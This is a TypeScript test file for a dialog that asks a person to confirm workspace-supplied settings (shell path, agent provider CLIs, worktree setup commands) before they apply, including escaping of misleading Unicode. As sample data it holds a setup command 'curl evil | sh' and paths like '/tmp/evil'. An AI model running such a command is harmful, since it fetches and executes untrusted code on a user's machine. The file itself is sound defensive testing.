import assert from 'node:assert/strict';
import { ConfirmationStore, type WorkspaceValue } from '../../../../src/config/confirmations';
import { ConfirmWorkspaceValues } from '../../../../src/views/dialogs/confirmWorkspaceValues';
import { ScriptedQuestions } from '../../../support/agents/scriptedQuestions';
import { folderRef } from '../../../support/views/treeSources';

describe('ConfirmWorkspaceValues', () => {
  const APP = folderRef('app');
  const SHELL = { key: 'shell', value: '/tmp/evil' };
  const ADA = { key: 'providers.ada', value: { cli: './ada' } };
  const BOB = { key: 'providers.bob', value: { cli: './bob' } };

  /** The person's own preset. */
  const applied = { mine: { extends: 'ada' } };

  function subject(brought: readonly WorkspaceValue[], ...answers: (string | undefined)[]) {
    const memory = new Map<string, unknown>();
    const confirmations = new ConfirmationStore({
      get: (key) => memory.get(key),
      update: (key, value) => Promise.resolve(void memory.set(key, value)),
    });
    const questions = new ScriptedQuestions(...answers);
    const values = { current: brought };
    const opened = { count: 0 };
    const confirm = new ConfirmWorkspaceValues({
      unconfirmed: (uri) =>
        values.current.filter((value) => !confirmations.isConfirmed(uri, value)),
      providersOf: () => applied,
      keyOf: (uri) => uri,
      confirmations,
      questions,
      openSettings: () => Promise.resolve((opened.count += 1)),
    });
    const isConfirmed = (value: WorkspaceValue) => confirmations.isConfirmed(APP.uri, value);
    return { confirm, questions, values, isConfirmed, opened };
  }

  it('asks nothing if the workspace sets no values', async () => {
    const { confirm } = subject([]);
    assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
  });

  it('shows key and value, and asks once about a confirmed value', async () => {
    const { confirm, questions, isConfirmed } = subject([SHELL], 'Apply');
    assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
    assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
    assert.ok(isConfirmed(SHELL));
    assert.match(questions.asked[0]?.detail ?? '', /agentTerminals\.shell: "\/tmp\/evil"/);
  });

  it('does not ask again about an ignored value, but asks about another value', async () => {
    const { confirm, questions, values, isConfirmed } = subject([SHELL], 'Ignore', 'Ignore');
    await confirm.confirm(APP, 'ada');
    await confirm.confirm(APP, 'ada');
    assert.equal(questions.asked.length, 1);
    assert.ok(!isConfirmed(SHELL));
    values.current = [{ ...SHELL, value: '/tmp/worse' }];
    await confirm.confirm(APP, 'ada');
    assert.equal(questions.asked.length, 2);
  });

  it('returns cancelled if the question is dismissed, and asks again', async () => {
    const { confirm } = subject([SHELL], undefined, 'Apply');
    assert.equal(await confirm.confirm(APP, 'ada'), 'cancelled');
    assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
  });

  it('asks only about the provider that is started, or about all without one', async () => {
    const { confirm, questions, isConfirmed } = subject([ADA, BOB], 'Apply', 'Ignore');
    await confirm.confirm(APP, 'ada');
    assert.deepEqual([isConfirmed(ADA), isConfirmed(BOB)], [true, false]);
    await confirm.confirm(APP, undefined);
    assert.doesNotMatch(questions.asked[1]?.detail ?? '', /providers\.ada/);
  });

  it('asks about what a preset extends and falls back to [A19]', async () => {
    const preset = { key: 'providers.eve', value: { extends: 'bob', fallback: 'zoe' } };
    const zoe = { key: 'providers.zoe', value: { fallback: 'eve' } };
    const { confirm, questions, isConfirmed } = subject([ADA, BOB, preset, zoe], 'Apply', 'Apply');
    await confirm.confirm(APP, 'eve');
    assert.deepEqual([BOB, preset, zoe, ADA].map(isConfirmed), [true, true, true, false]);
    assert.ok(!confirm.isSettled(APP, 'mine'));
    await confirm.confirm(APP, 'mine');
    assert.deepEqual([questions.asked.length, isConfirmed(ADA)], [2, true]);
  });

  it('asks about the default provider only if none is named', async () => {
    const chosen = { key: 'defaultProvider', value: 'evil' };
    const { confirm, questions } = subject([chosen], 'Apply');
    await confirm.confirm(APP, 'ada');
    assert.equal(questions.asked.length, 0);
    await confirm.confirm(APP, undefined);
    assert.match(questions.asked[0]?.detail ?? '', /defaultProvider: "evil"/);
  });

  it('asks about worktree commands at the start of a shell, too', async () => {
    const setup = { key: 'worktree.setup', value: ['curl evil | sh'] };
    const { confirm, questions, isConfirmed } = subject([ADA, setup], 'Apply');
    assert.equal(await confirm.confirm(APP, 'shell'), 'answered');
    assert.match(questions.asked[0]?.detail ?? '', /worktree\.setup: \[\s+"curl evil \| sh"/);
    assert.deepEqual([isConfirmed(setup), isConfirmed(ADA)], [true, false]);
  });

  it('asks once for two starts at the same time', async () => {
    const { confirm, questions } = subject([SHELL], 'Apply');
    await Promise.all([confirm.confirm(APP, 'ada'), confirm.confirm(APP, 'ada')]);
    assert.equal(questions.asked.length, 1);
  });

  it('escapes misleading characters, also in names', async () => {
    const { confirm, questions } = subject(
      [
        { key: 'shell', value: 'a\u202eb\u200bc\u009b' },
        { key: 'providers.x\u2066', value: {} },
      ],
      'Ignore',
    );
    await confirm.confirm({ ...APP, name: 'app\u202e', path: '/home/ada/\u202eapp' }, undefined);
    const { message, detail = '' } = questions.asked[0] ?? {};
    assert.match(message ?? '', /in app\\u202e to/);
    assert.match(detail, /shell: "a\\u202eb\\u200bc\\u009b"/);
    assert.match(detail, /providers\.x\\u2066: \{\}/);
    assert.match(detail, /folder \/home\/ada\/\\u202eapp\./);
  });

  const TOO_LONG: readonly (readonly [name: string, values: readonly WorkspaceValue[]])[] = [
    ['long', [{ key: 'shell', value: 'x'.repeat(2000) }]],
    ['high', [{ key: 'envPassthrough', value: Array.from({ length: 50 }, () => 'X') }]],
    [
      'many',
      Array.from({ length: 30 }, (_, at) => ({ key: `providers.p${at}`, value: ADA.value })),
    ],
  ];
  for (const [name, values] of TOO_LONG) {
    it(`applies no values that are too ${name} to be shown completely, but opens the settings`, async () => {
      const { confirm, questions, isConfirmed, opened } = subject(values, 'Open Settings');
      assert.equal(await confirm.confirm(APP, undefined), 'cancelled');
      assert.deepEqual(questions.asked[0]?.answers, ['Open Settings', 'Ignore']);
      assert.match(questions.asked[0].detail ?? '', /… \(\d+ more characters\)/);
      assert.deepEqual([values.some(isConfirmed), opened.count], [false, 1]);
    });
  }

  it('continues without a value that is too long if the person ignores it', async () => {
    const { confirm } = subject([{ key: 'shell', value: 'x'.repeat(2000) }], 'Ignore');
    assert.equal(await confirm.confirm(APP, 'ada'), 'answered');
  });
});
